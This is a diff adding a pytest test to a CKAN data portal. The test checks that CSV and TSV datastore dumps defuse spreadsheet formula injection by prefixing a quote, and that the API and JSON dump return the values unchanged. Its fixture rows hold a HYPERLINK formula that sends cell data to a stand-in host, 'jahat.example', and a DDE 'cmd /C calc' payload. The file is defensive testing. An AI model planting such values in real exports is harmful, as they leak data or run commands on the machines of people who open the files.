@@ -8,6 +8,10 @@ the DataTables view's data and the file page.
 """
 from __future__ import annotations
 
+import csv
+import io
+import json
+
 import pytest
 
 from ckan.tests import helpers
@@ -217,3 +221,26 @@ def test_the_api_help_still_documents_the_datastore_actions_the_portal_extends(a
     assert api.ok("help_show", None, name="datastore_create").startswith("Adds a new table to the DataStore")
     assert api.ok("help_show", None, name="datastore_delete").startswith("Deletes a table or a set of records")
     assert "exact rules" in api.ok("help_show", None, name="satudata_table_load")
+
+
+def test_the_dump_never_hands_a_spreadsheet_a_formula(portal, make_dataset, api, empty_datastore):
+    dataset = make_dataset("approved")
+    resource_id = dataset["resources"][0]["id"]
+    rows = [{"kecamatan": '=HYPERLINK("http://jahat.example/?d="&A1,"Klik")', "telepon": "+62 812-5555-0101",
+             "jumlah": -1250, "catatan": "-"},
+            {"kecamatan": "@SUM(1+1)", "telepon": "-2+3+cmd|' /C calc'!A0", "jumlah": 7, "catatan": "baris\nkedua"},
+            {"kecamatan": "Bengalon", "telepon": "0812", "jumlah": 0, "catatan": ""}]
+    helpers.call_action("datastore_create", {"user": portal.sysadmin["name"]}, resource_id=resource_id, force=True,
+                        records=rows, fields=[{"id": "kecamatan", "type": "text"}, {"id": "telepon", "type": "text"},
+                                              {"id": "jumlah", "type": "int"}, {"id": "catatan", "type": "text"}])
+    for fmt, delimiter in (("csv", ","), ("tsv", "\t")):
+        body = api.app.get(f"/datastore/dump/{resource_id}?format={fmt}").get_data(as_text=True)
+        table = list(csv.reader(io.StringIO(body.lstrip("\ufeff"), newline=""), delimiter=delimiter))
+        assert table[1:] == [
+            ["1", "'" + rows[0]["kecamatan"], "+62 812-5555-0101", "-1250", "-"],
+            ["2", "'@SUM(1+1)", "'-2+3+cmd|' /C calc'!A0", "7", "baris\nkedua"],
+            ["3", "Bengalon", "0812", "0", ""]], fmt
+    # The API and the JSON dump give every value exactly.
+    assert api.ok("datastore_search", None, resource_id=resource_id)["records"][0]["kecamatan"] == rows[0]["kecamatan"]
+    exact = json.loads(api.app.get(f"/datastore/dump/{resource_id}?format=json").get_data(as_text=True))
+    assert exact["records"][1][1:3] == ["@SUM(1+1)", "-2+3+cmd|' /C calc'!A0"]
